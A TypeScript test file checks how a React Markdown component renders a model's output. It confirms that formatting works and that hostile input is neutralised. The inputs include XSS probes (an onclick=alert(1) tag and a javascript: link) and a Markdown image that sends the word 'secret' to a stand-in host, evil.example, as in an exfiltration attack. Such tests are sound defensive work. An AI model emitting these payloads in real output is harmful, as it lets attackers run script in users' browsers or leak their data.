// What the page makes of a model's Markdown.

import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "../app/markdown.tsx";

const render = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

test("Markdown becomes headings, lists, tables and code, also while it is still being written", () => {
  expect(render("## So\n\n1. a\n2. **b**")).toMatch(/<h2>So<\/h2>.*<li>a<\/li>.*<strong>b</s);
  expect(render("| a | b |\n| --- | --- |\n| 1 | 2 |")).toContain("<td>2</td>");
  expect(render("```ts\nconst a = 1;")).toContain("<code");
});

test("HTML is shown as text, and a script's address leads nowhere", () => {
  expect(render("<b onclick=alert(1)>hi</b>")).not.toContain("<b");
  expect(render("[here](javascript:alert(1))")).not.toContain("javascript:");
});

test("a link opens a page of its own, and a picture is left out", () => {
  expect(render("[here](https://a.example)")).toContain('target="_blank" rel="noreferrer"');
  expect(render("![secret](https://evil.example/?q=secret)")).not.toContain("evil.example");
});
